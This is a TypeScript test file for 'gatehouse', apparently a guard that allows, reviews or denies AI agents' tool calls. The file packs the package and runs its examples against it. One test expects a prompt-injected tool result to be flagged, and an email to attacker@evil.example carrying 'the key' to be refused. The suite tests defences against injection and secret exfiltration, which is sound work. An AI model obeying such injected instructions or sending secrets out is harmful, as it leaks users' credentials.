/**
 * The package as a user gets it: `npm pack` of the built tree, unpacked into an empty project's node_modules the way
 * `npm install` places it, then imported by name, its subpath exports and bin used, and every example in
 * examples/ type-checked and run there against it (scripted models, no network).
 *
 * The dependencies of the unpacked package are this checkout's installed ones, linked in: a registry install would
 * compile better-sqlite3 and re2 again (minutes). The package itself, its exports, types, bin and file list are
 * exactly what `npm publish` would upload.
 */
import { execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const REPO = join(import.meta.dirname, '..', '..');
const PKG = JSON.parse(readFileSync(join(REPO, 'package.json'), 'utf8')) as {
  name: string;
  bin: Record<string, string>;
  exports: Record<string, unknown>;
  peerDependencies: Record<string, string>;
  peerDependenciesMeta: Record<string, { optional?: boolean }>;
};
const NAME = PKG.name;
const PEERS = ['ai', '@openai/agents', '@langchain/core'];
const TSX = join(REPO, 'node_modules', 'tsx', 'dist', 'cli.mjs');
const TSC = join(REPO, 'node_modules', 'typescript', 'bin', 'tsc');

let work: string;
/** A project with the package and all its dependencies, peers included. */
let app: string;
/** A project with the package and its dependencies but none of the optional peers. */
let bare: string;
let files: string[];

function newestMtime(dir: string): number {
  let newest = 0;
  for (const f of readdirSync(dir, { recursive: true, withFileTypes: true }))
    if (f.isFile()) newest = Math.max(newest, statSync(join(f.parentPath, f.name)).mtimeMs);
  return newest;
}

/** npm test builds first; a direct `vitest run test/examples` builds when dist is missing or older than src. */
async function ensureBuilt(): Promise<void> {
  const main = join(REPO, 'dist', 'index.js');
  if (existsSync(main) && statSync(main).mtimeMs >= newestMtime(join(REPO, 'src'))) return;
  const r = await exec('npm', ['run', 'build', '--silent'], { cwd: REPO });
  if (r.status !== 0) throw new Error(`npm run build failed:\n${r.stdout}${r.stderr}`);
}

/** Unpacks the tarball into `project/node_modules/NAME` and links the checkout's other packages beside it. */
function project(tarball: string, dir: string, omit: string[]): string {
  const nm = join(dir, 'node_modules');
  const own = join(nm, ...NAME.split('/'));
  mkdirSync(own, { recursive: true });
  execFileSync('tar', ['-xzf', tarball, '-C', own, '--strip-components=1']);
  const omitted = (p: string) => omit.some((o) => p === o || p.startsWith(`${o}/`) || o.startsWith(`${p}/`));
  for (const entry of readdirSync(join(REPO, 'node_modules'))) {
    if (entry.startsWith('.') || entry === NAME) continue;
    if (entry.startsWith('@')) {
      for (const sub of readdirSync(join(REPO, 'node_modules', entry))) {
        if (omitted(`${entry}/${sub}`)) continue;
        mkdirSync(join(nm, entry), { recursive: true });
        symlinkSync(join(REPO, 'node_modules', entry, sub), join(nm, entry, sub));
      }
    } else if (!omitted(entry)) symlinkSync(join(REPO, 'node_modules', entry), join(nm, entry));
  }
  // What npm does for `bin`: an executable target linked from node_modules/.bin.
  mkdirSync(join(nm, '.bin'));
  for (const [cmd, target] of Object.entries(PKG.bin)) {
    chmodSync(join(own, target), 0o755);
    symlinkSync(relative(join(nm, '.bin'), join(own, target)), join(nm, '.bin', cmd));
  }
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'consumer', private: true, type: 'module' }));
  return dir;
}

/** Runs a command without blocking the test worker (vitest's RPC times out on a long synchronous spawn). */
function exec(
  cmd: string,
  args: string[],
  opts: { cwd: string; input?: string; env?: NodeJS.ProcessEnv },
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const p = spawn(cmd, args, { cwd: opts.cwd, env: opts.env ?? process.env, stdio: 'pipe' });
    let stdout = '';
    let stderr = '';
    p.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    p.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    p.on('error', reject);
    p.on('close', (status) => resolve({ status, stdout, stderr }));
    p.stdin.end(opts.input ?? '');
  });
}

function node(cwd: string, code: string) {
  return exec(process.execPath, ['--input-type=module', '-e', code], { cwd });
}

beforeAll(async () => {
  await ensureBuilt();
  work = mkdtempSync(join(tmpdir(), 'gh-pack-'));
  const packed = await exec('npm', ['pack', '--json', '--pack-destination', work], { cwd: REPO });
  if (packed.status !== 0) throw new Error(`npm pack failed:\n${packed.stderr}`);
  const [info] = JSON.parse(packed.stdout) as [{ filename: string; files: { path: string }[] }];
  files = info.files.map((f) => f.path);
  const tarball = join(work, info.filename);
  app = project(tarball, join(work, 'app'), []);
  bare = project(tarball, join(work, 'bare'), PEERS);
}, 120_000);
afterAll(() => {
  if (work) rmSync(work, { recursive: true, force: true });
});

describe(`the packed package (${NAME})`, () => {
  it('holds the compiled entry points, types, bin, schema and README, and no sources or tests', () => {
    for (const f of [
      'package.json',
      'README.md',
      'schema/gatehouse.schema.json',
      'dist/index.js',
      'dist/index.d.ts',
      'dist/cli/main.js',
      'dist/guard/index.js',
      'dist/client/index.js',
      'dist/client/index.d.ts',
      'dist/adapters/ai.js',
      'dist/adapters/ai.d.ts',
      'dist/adapters/openai-agents.js',
      'dist/adapters/langchain.d.ts',
      'dist/server/dashboard/index.html',
    ])
      expect(files).toContain(f);
    expect(files.filter((f) => /^(src|test|examples|scripts|bench)\//.test(f))).toEqual([]);
  });

  it('declares the frameworks as optional peers and keeps the command `gatehouse`', () => {
    expect(NAME).not.toBe('gatehouse'); // that npm name is someone else's package
    expect(PKG.bin).toEqual({ gatehouse: 'dist/cli/main.js' });
    for (const p of PEERS) {
      expect(PKG.peerDependencies[p]).toBeTruthy();
      expect(PKG.peerDependenciesMeta[p]?.optional).toBe(true);
    }
  });

  it('resolves the root and every subpath by name, each with its API', async () => {
    const r = await node(
      app,
      `const out = {};
       for (const [sub, names] of Object.entries({
         '': ['Gatehouse', 'parseConfig', 'createSandbox'],
         '/guard': ['createGuard', 'guardSession', 'callbackApprover', 'GuardDeniedError'],
         '/client': ['GatehouseClient', 'GatehouseClientError'],
         '/ai': ['gatehouseTools', 'gatehouseMiddleware'],
         '/openai-agents': ['withGatehouse', 'gatehouseTool', 'gatehouseInputGuardrail'],
         '/langchain': ['gatehouseTool', 'GatehouseCallbackHandler', 'redactStream'],
       })) {
         const m = await import(${JSON.stringify(NAME)} + sub);
         out[sub || '.'] = names.filter((n) => typeof m[n] !== 'function');
         out[sub || '.' ] = { missing: out[sub || '.'], at: import.meta.resolve(${JSON.stringify(NAME)} + sub) };
       }
       console.log(JSON.stringify(out));`,
    );
    expect(r.status, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout) as Record<string, { missing: string[]; at: string }>;
    expect(Object.keys(out)).toEqual(['.', '/guard', '/client', '/ai', '/openai-agents', '/langchain']);
    for (const [sub, v] of Object.entries(out)) {
      expect(v.missing, sub).toEqual([]);
      expect(v.at, sub).toContain(`/app/node_modules/${NAME}/dist/`);
    }
  });

  it('loads without the optional peers; an adapter needing its framework at run time fails naming it', async () => {
    const r = await node(
      bare,
      `const { Gatehouse } = await import(${JSON.stringify(NAME)});
       const { GatehouseClient } = await import(${JSON.stringify(`${NAME}/client`)});
       const { createGuard } = await import(${JSON.stringify(`${NAME}/guard`)});
       const errs = {};
       for (const sub of ['ai', 'openai-agents', 'langchain'])
         errs[sub] = await import(${JSON.stringify(NAME)} + '/' + sub).then(() => 'loaded', (e) => e.code + ' ' + e.message);
       console.log(JSON.stringify({ ok: [typeof Gatehouse, typeof GatehouseClient, typeof createGuard], errs }));`,
    );
    expect(r.status, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout) as { ok: string[]; errs: Record<string, string> };
    expect(out.ok).toEqual(['function', 'function', 'function']);
    // The AI SDK and Agents adapters use only their framework's types; LangChain's extends its classes.
    expect(out.errs).toEqual({
      ai: 'loaded',
      'openai-agents': 'loaded',
      langchain: expect.stringMatching(/^ERR_MODULE_NOT_FOUND Cannot find package '@langchain\/core' imported from /),
    });
  });

  it("the README's tour works from an empty directory with `npx gatehouse` (the installed bin, no download)", async () => {
    const dir = join(app, 'tour');
    mkdirSync(dir);
    const gh = (args: string[], input?: string) =>
      exec('npx', ['--no-install', 'gatehouse', ...args], {
        cwd: dir,
        ...(input !== undefined ? { input } : {}),
        env: { ...process.env, PATH: `${join(app, 'node_modules', '.bin')}:${process.env.PATH}` },
      });
    const init = await gh(['init']);
    expect(init.status, init.stderr).toBe(0);
    expect(existsSync(join(dir, 'gatehouse.yaml'))).toBe(true);
    const decide = async (action: object) => {
      const r = await gh(['decide', '--json'], JSON.stringify(action));
      return { status: r.status, effect: (JSON.parse(r.stdout) as { effect: string }).effect, err: r.stderr };
    };
    expect(
      await decide({ kind: 'tool_call', agent: 'demo', session: 's1', tool: 'fs.read', args: { path: 'README.md' } }),
    ).toMatchObject({ status: 0, effect: 'allow' });
    expect(
      await decide({ kind: 'tool_call', agent: 'demo', tool: 'web.fetch', args: { url: 'https://github.com' } }),
    ).toMatchObject({ status: 0, effect: 'allow' });
    expect(
      await decide({ kind: 'tool_call', agent: 'demo', tool: 'email.send', args: { to: 'boss@example.com' } }),
    ).toMatchObject({ status: 4, effect: 'review' });
    expect(await decide({ kind: 'tool_call', agent: 'demo', tool: 'rm.everything' })).toMatchObject({
      status: 3,
      effect: 'deny',
    });
    const verify = await gh(['audit', 'verify']);
    expect(verify.status, verify.stderr).toBe(0);
  }, 120_000);
});

// Each example is its own process: run them side by side, with room for a loaded CI machine.
describe('the examples, against the packed package', { concurrent: true, timeout: 120_000 }, () => {
  beforeAll(() => {
    cpSync(join(REPO, 'examples'), join(app, 'examples'), { recursive: true });
  });

  it('type-check against the published types', async () => {
    writeFileSync(
      join(app, 'tsconfig.json'),
      JSON.stringify({
        compilerOptions: {
          target: 'ES2022',
          module: 'NodeNext',
          moduleResolution: 'NodeNext',
          lib: ['ES2023'],
          types: ['node'],
          strict: true,
          noEmit: true,
          skipLibCheck: true,
        },
        include: ['examples/*.ts'],
      }),
    );
    const r = await exec(process.execPath, [TSC, '-p', 'tsconfig.json'], { cwd: app });
    expect(r.status, r.stdout + r.stderr).toBe(0);
  }, 120_000);

  async function runExample(file: string) {
    const r = await exec(process.execPath, [TSX, join('examples', file)], { cwd: app });
    expect(r.status, r.stderr).toBe(0);
    return JSON.parse(r.stdout) as Record<string, unknown>;
  }

  const APPROVED_MAIL = 'send_email {"to":"ops@example.com","body":"notes attached"}';
  /** What the framework examples' tools ran: the credential handle reached check_status as the real token. */
  const RAN = ['read_file notes.txt', 'check_status billing (token resolved: true)', 'send_email ops@example.com'];
  /** check_status echoes the token it got; the model is given that result with the token redacted. */
  const STATUS_SEEN = 'billing: ok ([REDACTED:known_secret])';

  it('guard.ts: an allowed call runs, a denied one is refused with its reasons, a credential handle is resolved for the tool and its echo redacted, a high-risk one waits for approval, an injected result stops the exfiltration', async () => {
    const out = await runExample('guard.ts');
    expect(out.ran).toEqual([
      'read_file: contents of notes.txt',
      'check_status: billing: ok (token true: [REDACTED:known_secret])',
      'send_email: sent to ops@example.com',
    ]);
    expect(out.tokenLeaked).toBe(false);
    expect(out.refused).toEqual([
      'drop_db: guard.denied (policy.no_permit)',
      expect.stringMatching(/^fetch_page: guard\.result_denied \(screen\./),
      expect.stringMatching(/^send_email: guard\.approval_denied \(.*screen\.session\.persistent_compromise/),
    ]);
    expect(out.approvals).toEqual([APPROVED_MAIL, 'send_email {"to":"attacker@evil.example","body":"the key"}']);
    expect(out.labels).toContain('untrusted_instructions');
  });

  it('ai-sdk.ts: the AI SDK tool loop runs the allowed and approved calls, resolves the credential handle, refuses the denied one', async () => {
    const out = await runExample('ai-sdk.ts');
    expect(out).toEqual({
      answer: 'Done: read the notes and emailed ops.',
      ran: [...RAN],
      refused: ['drop_db: drop_db was not allowed (policy.no_permit)'],
      approvals: [APPROVED_MAIL],
      modelSaw: [
        'read_file: contents of notes.txt',
        `check_status: ${STATUS_SEEN}`,
        'send_email: sent to ops@example.com',
      ],
      tokenLeaked: false,
    });
  });

  it('openai-agents.ts: the high-risk call is an SDK interruption, recorded in Gatehouse once approved', async () => {
    const out = await runExample('openai-agents.ts');
    expect(out).toEqual({
      answer: 'Done: read the notes and emailed ops.',
      ran: [...RAN],
      refused: ['Gatehouse refused drop_db: guard.denied (policy.no_permit)'],
      approvals: [APPROVED_MAIL],
      recorded: ['send_email by openai-agents:alice'],
      modelSaw: ['contents of notes.txt', STATUS_SEEN, 'sent to ops@example.com'],
      tokenLeaked: false,
    });
  });

  it('langchain.ts: guarded tools in the tool loop with a credential handle, and a secret split across streamed chunks is redacted', async () => {
    const out = await runExample('langchain.ts');
    expect(out).toMatchObject({
      answer: 'Done: read the notes and emailed ops.',
      ran: [...RAN],
      refused: ['drop_db: drop_db was not allowed (policy.no_permit)'],
      approvals: [APPROVED_MAIL],
      modelSaw: ['contents of notes.txt', STATUS_SEEN, 'sent to ops@example.com'],
      tokenLeaked: false,
    });
    expect(out.streamed).toMatch(/^the deploy token is \[REDACTED[^\]]*\], keep it safe$/);
  });

  it('every example in examples/ is run by this suite', () => {
    const programs = readdirSync(join(REPO, 'examples')).filter(
      (f) => f.endsWith('.ts') && f !== 'scripted-chat-model.ts',
    );
    expect(programs.sort()).toEqual(['ai-sdk.ts', 'guard.ts', 'langchain.ts', 'openai-agents.ts']);
  });
});
